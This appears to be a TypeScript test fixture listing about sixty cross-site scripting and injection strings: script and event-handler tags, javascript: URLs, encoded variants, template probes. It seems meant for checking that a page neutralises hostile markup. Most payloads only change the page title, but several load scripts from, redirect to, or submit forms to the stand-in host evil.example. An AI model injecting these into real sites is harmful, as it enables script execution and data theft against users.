const does = "document.title='broken'";

/** What somebody types to make a page do something: 60 strings of every kind that is known. None says more than a title has. */
export const markup: readonly string[] = [
  ...[
    `<script>${does}</script>`,
    `<ScRiPt src=//evil.example/x.js></ScRiPt>`,
    `</script><script>${does}</script>`,
  ],
  ...[
    `<img src=x onerror="${does}">`,
    `<img src=x onerror=${does}//`,
    `<IMG """><SCRIPT>${does}</SCRIPT>">`,
  ],
  ...[
    `<svg onload=${does}>`,
    `<svg><script>${does}</script></svg>`,
    `<svg/onload=${does}>`,
    `<svg><animate onbegin=${does}>`,
  ],
  ...[
    `<iframe src="javascript:${does}">`,
    `<iframe srcdoc="<script>${does}</script>">`,
    `<object data=//evil.example>`,
  ],
  ...[
    `<embed src=//evil.example>`,
    `<base href=//evil.example>`,
    `<link rel=stylesheet href=//evil.example>`,
  ],
  ...[
    `<meta http-equiv=refresh content="0;url=//evil.example">`,
    `<style>*{display:none}</style>`,
    `<b>굵게</b>`,
  ],
  ...[
    `<a href="javascript:${does}">눌러요</a>`,
    `<a href="data:text/html,x">눌러요</a>`,
    `<form action=//evil.example><button>`,
  ],
  ...[
    `<input autofocus onfocus=${does}>`,
    `<body onload=${does}>`,
    `<details open ontoggle=${does}>`,
    `<marquee onstart=${does}>`,
  ],
  ...[
    `<video><source onerror=${does}></video>`,
    `<audio src=x onerror=${does}>`,
    `<math><mi xlink:href="javascript:${does}">`,
  ],
  ...[
    `<template><script>${does}</script></template>`,
    `<noscript><img src=x onerror=${does}></noscript>`,
    `<title>가짜</title>`,
  ],
  ...[
    `"><script>${does}</script>`,
    `'><img src=x onerror=${does}>`,
    `' onmouseover=${does} x='`,
    `" autofocus onfocus=${does} x="`,
  ],
  ...[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHN2Zz4=",
    "vbscript:x",
  ],
  ...[
    "&lt;b&gt;",
    "&amp;lt;",
    "&#x3C;img src=x&#x3E;",
    "%3Cscript%3E",
    "\\u003cscript\\u003e",
    "\\x3Cimg\\x3E",
  ],
  ...[
    `\${7*7}`,
    "{{7*7}}",
    "<%= 7*7 %>",
    "#{7*7}",
    "[click](javascript:alert(1))",
    "![](https://evil.example/x.png)",
    "**굵게**",
  ],
  ...["<!-- -->", "<![CDATA[<script>]]>", "<?xml version='1.0'?>", "__proto__"],
  ...["</textarea><svg onload=1>", "]]><script>"],
];
